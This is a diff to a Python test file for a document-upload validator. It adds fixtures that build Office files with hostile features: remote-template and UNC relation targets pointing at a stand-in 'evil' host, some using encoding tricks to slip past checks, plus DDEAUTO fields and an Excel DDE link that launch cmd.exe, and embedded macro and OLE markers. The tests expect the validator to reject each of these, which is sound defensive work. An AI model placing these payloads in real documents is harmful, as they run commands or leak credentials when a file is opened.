@@ -3,9 +3,11 @@
 import io
 import re
 import struct
+import warnings
 import zipfile
 import zlib
 from collections.abc import Callable
+from functools import partial
 
 import pytest
 from papers import EXCEL, PDF, exif, office, package, pdf, photo, stream
@@ -136,12 +138,64 @@ def wide_webp() -> bytes:
     return content[:26] + struct.pack("<HH", 16_383, 16_383) + content[30:]
 
 
-def related(kind: str, target: str) -> str:
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+ELSEWHERE = ("文档打开时会从网络取用别处的内容，不能作为材料", "另存为 PDF 后重新上传")
+COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+
+
+def related(kind: str, target: str, *, mode: str = "External") -> str:
     return (
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a"'
-        f' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"'
-        ' TargetMode="External"/></Relationships>'
+        f' Type="{OFFICE}{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
     )
+
+
+def fetching(kind: str, target: str, *, rels: str = "word/_rels/settings.xml.rels", mode: str = "External") -> bytes:
+    """A Word document with a relation to something."""
+    return office(**{rels: related(kind, target, mode=mode)})
+
+
+def twice(name: str) -> bytes:
+    """A package in which one program reads a harmless list of relations, and another the list before it."""
+    made = io.BytesIO(fetching("attachedTemplate", "http://evil"))
+    with warnings.catch_warnings(), zipfile.ZipFile(made, "a") as archive:
+        warnings.simplefilter("ignore")
+        archive.writestr(name, "<Relationships/>")
+    return made.getvalue()
+
+
+def text_of_word(*runs: str) -> bytes:
+    """A Word document with this in its text."""
+    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+    made = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(office())) as before, zipfile.ZipFile(made, "w") as archive:
+        for name in before.namelist():
+            text = f'<w:document xmlns:w="{space}">{"".join(runs)}</w:document>'
+            archive.writestr(name, text if name == "word/document.xml" else before.read(name))
+    return made.getvalue()
+
+
+def field_of(*instructions: str) -> str:
+    """A field whose instruction stands in several runs."""
+    runs = "".join(f"<w:instrText>{part}</w:instrText>" for part in instructions)
+    return f'<w:fldChar w:fldCharType="begin"/>{runs}<w:fldChar w:fldCharType="end"/>'
+
+
+def package_by(method: int) -> bytes:
+    made = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(office())) as before, zipfile.ZipFile(made, "w", method) as archive:
+        for name in before.namelist():
+            archive.writestr(name, before.read(name))
+    return made.getvalue()
+
+
+def linking_workbook() -> bytes:
+    types = (
+        f'<Types><Override PartName="/xl/workbook.xml" ContentType="{EXCEL}"/><Override PartName="/xl/links.bin" Content'
+        'Type="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>'
+    )
+    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
+    return package({"[Content_Types].xml": types, "xl/workbook.xml": "<w/>", "xl/links.bin": link})
 
 
 PDFS: list[Row] = [
@@ -213,7 +267,7 @@ PICTURES: list[Row] = [
     ("an archive behind zeros", "a.jpg", lambda: photo() + b"\0" * 99 + package({"a": "x"}), TWO),
     ("a program behind it", "a.png", lambda: photo("PNG") + b"MZ\x90\0", TWO),
     ("a bomb", "a.png", wide_png, too_wide(40000)),
-    ("a bomb", "a.webp", wide_webp, too_wide(16_383, 64)),
+    ("a bomb", "a.webp", wide_webp, too_wide(16_383, 25)),
     ("a bomb", "a.jpg", wide_jpeg, too_wide(30000)),
 ]
 PACKAGES: list[Row] = [
@@ -239,8 +293,71 @@ PACKAGES: list[Row] = [
     (
         "a template from the net",
         "a.docx",
-        lambda: office(**{"word___rels__a.rels": related("attachedTemplate", "http://a/b.dotm")}),
-        ("文档打开时会从网络取用别处的内容，不能作为材料", "另存为 PDF 后重新上传"),
+        lambda: fetching("attachedTemplate", "http://a/b.dotm"),
+        ELSEWHERE,
+    ),
+    *(
+        (f"a template at {target}", "a.docx", partial(fetching, "attachedTemplate", target), ELSEWHERE)
+        for target in (
+            "file://evil/share/x.dotm",
+            r"file:///\\evil\share\x.dotm",
+            r"/\evil\x.dotm",
+            r"\\evil\x.dotm",
+            r"\??\UNC\evil\x.dotm",
+            "/%5cevil/x.dotm",
+            "%5C%5Cevil/x.dotm",
+            "%255c%255cevil/x.dotm",
+            "%25252525255c%25252525255cevil/x.dotm",
+            "%68ttp://evil",
+            "&#xA0;ht&#x9;tp://evil",
+            "ldap://evil",
+            "mhtml:http://evil!x",
+        )
+    ),
+    *(
+        (f"{kind} from the net", "a.docx", partial(fetching, kind, "http://evil/x"), ELSEWHERE)
+        for kind in ("image", "header", "control", "package", "externalLinkPath", "frame", "subDocument", "oleObject")
+    ),
+    ("a web page as text", "a.docx", lambda: fetching("aFChunk", "a.html", mode="Internal"), ELSEWHERE),
+    ("no mode", "a.docx", lambda: fetching("attachedTemplate", "http://evil", mode="Internal"), ELSEWHERE),
+    *(
+        (f"relations in {name}", "a.docx", partial(fetching, "image", "http://evil", rels=name), ELSEWHERE)
+        for name in ("word/_rels/a.xml.RELS", "word\\_rels\\a.xml.rels", "/word/_rels/a.xml.rel%73")
+    ),
+    ("a list of relations that is there twice", "a.docx", lambda: twice("word/_rels/settings.xml.rels"), TWO),
+    ("the same behind a slash", "a.docx", lambda: twice("/word/_rels/settings.xml.rels"), TWO),
+    ("the same in capitals", "a.docx", lambda: twice("WORD/_rels/settings.xml.rels"), TWO),
+    (
+        "a packed program",
+        "a.docx",
+        lambda: office(
+            **{"word__embeddings__o.bin": COMPOUND + b"x" * 1_048_560 + "\1Ole10Native".encode("utf-16-le")}
+        ),
+        ("文档里嵌有别的文件，打开它可能运行程序，不能作为材料", "把嵌入的文件取出来单独上传，再把正文打印成 PDF 上传"),
+    ),
+    (
+        "old Excel with macros within",
+        "a.docx",
+        lambda: office(**{"word__a.bin": COMPOUND + "_VBA_PROJECT_CUR".encode("utf-16-le")}),
+        MACROS,
+    ),
+    ("a workbook with macros by its name", "a.docx", lambda: office(**{"word__embeddings__a.XLSM": "x"}), MACROS),
+    (
+        "a workbook with macros by its content",
+        "a.docx",
+        lambda: office(**{"word__embeddings__a.xlsx": office(EXCEL, **{"xl__vbaProject.bin": "x"})}),
+        MACROS,
+    ),
+    ("a program by its content", "a.docx", lambda: office(**{"word__media__a.png": b"MZ\x90\0"}), ACTS),
+    ("a field that starts a command", "a.docx", lambda: text_of_word(field_of(r'DDEAUTO c:\\cmd.exe "/k"')), ACTS),
+    ("the same in pieces", "a.docx", lambda: text_of_word(field_of(" d", "de", "&#65;uto ", "cmd")), ACTS),
+    ("the same in short", "a.docx", lambda: text_of_word('<w:fldSimple w:instr=" DDE cmd"/>'), ACTS),
+    ("a link that starts a command", "a.xlsx", linking_workbook, ACTS),
+    (
+        "a packing that no office program knows",
+        "a.docx",
+        lambda: package_by(zipfile.ZIP_LZMA),
+        broken("ZIP"),
     ),
     ("a program within", "a.docx", lambda: office(**{"word__embeddings__a.exe": "x"}), ACTS),
     ("a program within OFD", "a.ofd", lambda: package({"OFD.xml": "<OFD/>", "Doc_0/Attachs/a.js": "x"}), ACTS),
